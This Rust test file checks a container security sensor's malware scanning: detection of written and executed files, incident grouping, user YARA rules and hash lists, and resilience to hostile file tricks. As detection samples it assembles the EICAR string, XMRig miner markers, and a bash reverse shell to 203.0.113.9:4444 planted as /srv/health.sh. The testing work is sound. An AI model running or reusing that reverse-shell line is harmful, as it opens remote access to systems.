//! A sensor that scans: what is found, who wrote and ran it, what belongs together, and what cannot be scanned.

use crate::harness::trial;
use crate::runc::{self, Container, Image, Spec};
use crate::sensor::{ALL_DRIFT, Sensor};
use anyhow::{Context as _, Result, ensure};
use libtest_mimic::Trial;
use serde_json::Value;
use std::fs;

pub(crate) fn trials() -> Vec<Trial> {
    let needs = &runc::NEEDS;
    vec![
        trial("scanning::writers_and_runners", needs, writers_and_runners),
        trial(
            "scanning::short_lived_and_renamed",
            needs,
            short_lived_and_renamed,
        ),
        trial("scanning::of_images", needs, of_images),
        trial("scanning::lists_and_rules_of_the_user", needs, of_the_user),
        trial("scanning::hostile_files", needs, hostile_files),
    ]
}

const QUIET: &str =
    "apiVersion: yagura.dev/v1\nkind: DriftPolicy\nspec:\n  default: { action: ignore }\n";

/// The test text of all scanners, as a shell writes it; in pieces, since a whole one is what they look for.
fn eicar(path: &str) -> String {
    let pieces = [
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}",
        "$EICAR-STANDARD-ANTI",
        "VIRUS-TEST-FILE!$H+H*",
    ];
    format!("printf '%s' '{}' > {path}", pieces.join("''"))
}

/// A copy of busybox with a miner's words behind its end.
fn miner(path: &str) -> String {
    let words = [
        "rx/~wow",
        "rx/~arq",
        "cn/~ccx",
        "donate-~level",
        "xm~rig.com",
    ];
    let words: Vec<String> = words.iter().map(|word| word.replace('~', "''")).collect();
    format!(
        "mkdir -p /opt; {{ cat /bin/busybox; printf '\\0%s' '{}'; }} > {path}; chmod 755 {path}",
        words.join("' '")
    )
}

fn found_in(path: &str, reason: &str) -> impl Fn(&Value) -> bool {
    move |alert| alert["scan"]["path"] == path && alert["scan"]["reason"] == reason
}

fn writers_and_runners() -> Result<()> {
    let image = Image::busybox()?;
    let sensor = Sensor::start_detecting(ALL_DRIFT, &[])?;
    let container = Container::start(&image, &Spec::default())?;
    container.shell(&miner("/opt/report"))?;
    let written = sensor.alert(&container.id, found_in("/opt/report", "written"))?;
    ensure!(written["key"] == "malware.miner", "{written:#}");
    ensure!(
        written["scan"]["run_by"] == Value::Array(vec![]),
        "{written:#}"
    );
    container.shell("/opt/report true || true; /opt/report true || true")?;
    let run = sensor.alert(&container.id, found_in("/opt/report", "drift-used"))?;
    let scan = &run["scan"];
    ensure!(
        scan["family"] == "xmrig" && scan["engine"] == "yara",
        "{scan:#}"
    );
    ensure!(
        scan["sha256"]
            .as_str()
            .is_some_and(|digest| digest.len() == 64),
        "{scan:#}"
    );
    ensure!(
        scan["matches"][0]["offset"]
            .as_u64()
            .is_some_and(|offset| offset > 0),
        "{scan:#}"
    );
    ensure!(scan["run_by"][0]["exe"] == "/opt/report", "{scan:#}");
    ensure!(scan["written_by"]["exe"] == "/bin/busybox", "{scan:#}");
    let drift = sensor.alert(&container.id, |alert| {
        alert["drift"]["path"] == "/opt/report"
    })?;
    // What a file is, that it ran, and that it is drift are one story.
    ensure!(
        run["incident"] == written["incident"],
        "{run:#}\n{written:#}"
    );
    ensure!(drift["incident"] == written["incident"], "{drift:#}");
    // Another file of another writer is another.
    container.shell(&eicar("/tmp/note.txt"))?;
    let other = sensor.alert(&container.id, found_in("/tmp/note.txt", "written"))?;
    ensure!(other["key"] == "malware.malicious_program", "{other:#}");
    ensure!(other["incident"] != written["incident"], "{other:#}");
    sensor.stop()?.lost_nothing()
}

fn short_lived_and_renamed() -> Result<()> {
    let image = Image::busybox()?;
    let sensor = Sensor::start_detecting(QUIET, &[])?;
    let container = Container::start(&image, &Spec::default())?;
    // Written by a process that ends at once.
    container.shell(&format!(
        "sh -c \"{}\"",
        eicar("/tmp/gone-writer").replace('$', "\\$")
    ))?;
    sensor.alert(&container.id, found_in("/tmp/gone-writer", "written"))?;
    // Written where nobody looks, then given its name.
    container.shell(&format!(
        "mkdir -p /data /var/www/html; {}; mv /data/part /var/www/html/x.txt",
        eicar("/data/part")
    ))?;
    sensor.alert(&container.id, found_in("/var/www/html/x.txt", "written"))?;
    sensor.stop()?;
    Ok(())
}

fn of_images() -> Result<()> {
    let image = Image::busybox()?;
    let script = [
        "#!/bin/bash\nba",
        "sh -i >",
        "& /dev/t",
        "cp/203.0.113.9/4444 0>",
        "&1\n",
    ]
    .concat();
    fs::create_dir_all(image.rootfs.join("srv"))?;
    fs::write(image.rootfs.join("srv/health.sh"), script)?;
    let list = image.dir.join("images");
    fs::write(&list, "no/such:image\n")?;
    let sensor = Sensor::start_detecting(
        QUIET,
        &[
            "--scan-images",
            "--scan-image-list",
            &list.to_string_lossy(),
        ],
    )?;
    let spec = Spec {
        usual_state: true,
        ..Spec::default()
    };
    let container = Container::start(&image, &spec)?;
    let found = sensor.alert(&container.id, found_in("/srv/health.sh", "image"))?;
    ensure!(found["key"] == "malware.backdoor", "{found:#}");
    sensor.stop()?;
    Ok(())
}

fn of_the_user() -> Result<()> {
    let image = Image::busybox()?;
    let rules = image.dir.join("rules");
    fs::create_dir(&rules)?;
    fs::write(
        rules.join("own.yar"),
        "rule Own { meta: key = \"malware.trojan\" family = \"own\" description = \"ours\" \
         strings: $a = \"green elephants fly\" condition: $a }\nrule Broken { condition: no_such_thing }\n",
    )?;
    let hashes = image.dir.join("hashes");
    // The digest of `listed` and a line feed.
    let digest = "printf 'listed\\n' | sha256sum | cut -c1-64";
    let probe = Container::start(&image, &Spec::default())?;
    fs::write(
        &hashes,
        format!("{} family-x # known\n", probe.shell(digest)?.trim()),
    )?;
    drop(probe);
    let sensor = Sensor::start_detecting(
        QUIET,
        &[
            "--scan-rules",
            &rules.to_string_lossy(),
            "--scan-hashes",
            &hashes.to_string_lossy(),
        ],
    )?;
    sensor.says("Broken").or_else(|_| sensor.says("own.yar"))?;
    let container = Container::start(&image, &Spec::default())?;
    container.shell("echo 'where green elephants fly' > /tmp/poem; echo listed > /tmp/listed")?;
    let own = sensor.alert(&container.id, found_in("/tmp/poem", "written"))?;
    ensure!(
        own["key"] == "malware.trojan" && own["scan"]["family"] == "own",
        "{own:#}"
    );
    let listed = sensor.alert(&container.id, found_in("/tmp/listed", "written"))?;
    ensure!(listed["scan"]["engine"] == "hash", "{listed:#}");
    ensure!(listed["scan"]["family"] == "family-x", "{listed:#}");
    sensor.stop()?;
    Ok(())
}

/// Nothing that a container does to its files keeps the sensor from looking at the next.
fn hostile_files() -> Result<()> {
    let image = Image::busybox()?;
    let sensor = Sensor::start_detecting(QUIET, &[])?;
    let container = Container::start(&image, &Spec::default())?;
    container.shell(
        "cd /tmp; mkfifo pipe; ln -s loop loop; truncate -s 10G sparse; chmod 755 sparse; echo x >> sparse; \
         printf x > \"$(printf 'line\\nbreak\\377')\"; dd if=/dev/zero of=zeros.php bs=1M count=8 2>/dev/null; \
         i=0; while [ $i -lt 200 ]; do echo $i > churn; mv churn churned; rm churned; i=$((i+1)); done",
    )?;
    container.shell(&eicar("/tmp/after"))?;
    let found = sensor.alert(&container.id, found_in("/tmp/after", "written"))?;
    ensure!(found["key"] == "malware.malicious_program", "{found:#}");
    let ended = sensor.stop()?;
    let unscanned = ended.stats["unscanned"]
        .as_object()
        .context("stats of scans")?;
    ensure!(!unscanned.is_empty(), "{:#}", ended.stats);
    Ok(())
}
